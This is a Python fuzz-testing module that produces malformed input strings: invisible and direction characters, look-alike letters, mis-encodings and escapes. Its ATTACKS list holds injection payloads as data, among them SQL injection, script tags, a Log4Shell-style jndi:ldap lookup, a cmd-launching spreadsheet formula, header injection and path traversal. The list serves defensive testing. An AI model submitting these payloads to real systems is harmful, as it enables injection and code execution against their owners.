"""Texts that people, spreadsheets and attackers really put into a field: examples gone wrong, and worse."""

from __future__ import annotations

from collections.abc import Callable, Sequence
from random import Random

__all__ = ["hostile_text", "masked"]

PLANES = (
    (0x20, 0x7F),
    (0xA0, 0x250),
    (0x300, 0x370),  # combining
    (0x370, 0x590),
    (0x590, 0x780),  # right to left
    (0x900, 0xE80),
    (0x1100, 0x1200),
    (0x2000, 0x2070),  # spaces, marks, direction
    (0x2070, 0x2BFF),
    (0x3000, 0x9FFF),
    (0xAC00, 0xD7A4),
    (0xE000, 0xF900),  # private use
    (0xF900, 0xFFFF),  # compatibility forms
    (0x10000, 0x10FFF),
    (0x1D400, 0x1D800),  # mathematical letters and digits
    (0x1F000, 0x1FAFF),
    (0x20000, 0x20100),
    (0xE0000, 0xE01F0),  # tags, variation selectors
    (0x10FF00, 0x110000),
)
CONTROL = [chr(c) for c in (*range(32), *range(127, 160))]
INVISIBLE = list(
    "\u00ad\u034f\u061c\u180e\u200b\u200c\u200d\u200e\u200f\u2060\u2066\u2069\ufeff\ufe0f"
)
DIRECTION = list("\u202a\u202b\u202c\u202d\u202e\u2067\u2068")
BLANKS = list(" \t\n\r\u00a0\u1680\u2003\u2009\u2028\u202f\u205f\u3000")
MARKS = list("-–—‐‑−_./\\|,;:#*+'’`´\"“”()[]{}<>@&%=?!~^$€£§°•")
LOOK_ALIKE = str.maketrans("aceopxyABCEHKMOPTX01lI", "асеорхуАВСЕНКМОРТХОlІ1")
DIGITS = (
    "٠١٢٣٤٥٦٧٨٩",
    "۰۱۲۳۴۵۶۷۸۹",
    "०१२३४५६७८९",
    "０１２３４５６７８９",
    "𝟎𝟏𝟐𝟑𝟒𝟓𝟔𝟕𝟖𝟗",
    "①②③④⑤⑥⑦⑧⑨⓪",
)
ATTACKS = (
    "' OR 1=1--",
    "'; DROP TABLE customers; --",
    "<script>alert(1)</script>",
    "<b>{}</b>",
    "&lt;{}&gt;",
    "${{jndi:ldap://x}}",
    "=HYPERLINK(\"http://x\",\"{}\")",
    "=cmd|' /C calc'!A0",
    "{}%0d%0aSet-Cookie:x",
    "../../{}",
    "%s%n%x{}",
    "{{{{7*7}}}}",
    "\\x00{}",
    "javascript:{}",
    "http://www.{}/?q=1#x",
    "data:text/plain,{}",
    "-1e308",
    "NaN",
    "Infinity",
    "1,234.56",
    "1.23E+11",
    "0x1F",
    "-0",
    "TRUE",
    "#REF!",
    "None",
    "undefined",
)  # fmt: skip
LABELS = ("no. {}", "id: {}", "tel {}", "#{}", "{} (old)", "c/o {}", "see {} / {}", "{} or {}", "{}; {}",
          '="{}"', "'{}", "{}.0", "“{}”", "<{}>", "{}\n{}", "Re: {}", "{} x5", "my {} please")  # fmt: skip


def random_character(chance: Random) -> str:
    """Any character but a surrogate, of any plane."""
    first, last = chance.choice(PLANES)
    return chr(chance.randrange(first, last))


def random_text(chance: Random, _text: str = "") -> str:
    return "".join(random_character(chance) for _ in range(chance.randrange(1, 40)))


def random_number(chance: Random, _text: str = "") -> str:
    """Digits, with or without a sign, a point and an exponent."""
    digits = "".join(chance.choices("0123456789", k=chance.randrange(1, 30)))
    return f"{chance.choice(('', '-', '+', '$'))}{digits}{chance.choice(('', '.0', '.50', 'E+10'))}"


def change_one(chance: Random, text: str) -> str:
    """One character replaced, put in, dropped, doubled, or changing places with the next."""
    at = chance.randrange(len(text) + 1)
    odd = chance.choice((random_character, lambda c: c.choice(CONTROL + INVISIBLE + DIRECTION)))
    usual = chance.choice("0123456789ABCXYZaz -./")
    new = odd(chance) if chance.random() < 0.3 else usual
    match chance.randrange(5):
        case 0:
            return text[:at] + new + text[at + 1 :]
        case 1:
            return text[:at] + new + text[at:]
        case 2:
            return text[:at] + text[at + 1 :]
        case 3:
            return text[:at] + text[at : at + 1] * 2 + text[at + 1 :]
        case _:
            return text[:at] + text[at : at + 2][::-1] + text[at + 2 :]


def sprinkle(chance: Random, text: str) -> str:
    """Something that is not seen, or a mark, between the characters."""
    among = chance.choice((CONTROL, INVISIBLE, DIRECTION, BLANKS, MARKS))
    return "".join(c + (chance.choice(among) if chance.random() < 0.2 else "") for c in text)


def other_digits(chance: Random, text: str) -> str:
    return text.translate(str.maketrans("0123456789", chance.choice(DIGITS)))


def full_width(_chance: Random, text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


def look_alike(_chance: Random, text: str) -> str:
    return text.translate(LOOK_ALIKE)


def other_case(chance: Random, text: str) -> str:
    return chance.choice((str.upper, str.lower, str.title, str.swapcase))(text)


def misread(chance: Random, text: str) -> str:
    """UTF-8 taken for another encoding."""
    return text.encode(errors="replace").decode(chance.choice(("latin-1", "cp437")))


def entities(chance: Random, text: str) -> str:
    return "".join(f"&#{ord(c)};" if chance.random() < 0.3 else c for c in text)


def percent(chance: Random, text: str) -> str:
    return "".join(f"%{ord(c) % 256:02X}" if chance.random() < 0.3 else c for c in text)


def attack(chance: Random, text: str) -> str:
    return chance.choice(ATTACKS).replace("{}", text)


def label(chance: Random, text: str) -> str:
    return chance.choice(LABELS).replace("{}", text)


def long(chance: Random, text: str) -> str:
    return (text + chance.choice(("", " ", "-", ",", "\u0301"))) * chance.randrange(2, 60)


def cut(chance: Random, text: str) -> str:
    start = chance.randrange(len(text) + 1)
    return text[start : start + chance.randrange(1, 12)]


def backwards(_chance: Random, text: str) -> str:
    return "\u202e" + text[::-1]


CHANGES: tuple[Callable[[Random, str], str], ...] = (
    *((change_one,) * 8),
    *((sprinkle, other_digits, full_width, look_alike, other_case, misread, entities, percent)),
    *((attack, label, label, long, cut, backwards, random_text, random_number)),
)


def hostile_text(chance: Random, examples: Sequence[str], others: Sequence[str] = ()) -> str:
    """An example after up to four changes; now and then another kind's, or two of them joined."""
    text = chance.choice(others if others and chance.random() < 0.15 else examples)
    if chance.random() < 0.1:
        text += chance.choice((" ", ", ", "/", ";", "\n", " and ")) + chance.choice(examples)
    for _ in range(chance.choice((0, 1, 1, 1, 2, 2, 3, 4))):
        text = chance.choice(CHANGES)(chance, text)
    return text


def masked(text: str) -> str:
    r"""A text in a form that may be shown: letters are ``a`` and ``A``, digits ``9``, marks as they are.

    Of letters and digits of other scripts only the block is told.

    >>> print(masked("Zo\xeb 12\u200b"))
    Aa\u{0xx} 99\u{200b}
    """
    shown = [mask(character) for character in text[:60]]
    return "".join(shown) + (f"... ({len(text)} characters)" if len(text) > len(shown) else "")


def mask(character: str) -> str:
    if not character.isascii() or not character.isprintable():
        code = ord(character)
        return f"\\u{{{code >> 8:x}xx}}" if character.isalnum() else f"\\u{{{code:x}}}"
    if character.isalpha():
        return "A" if character.isupper() else "a"
    return "9" if character.isdigit() else character
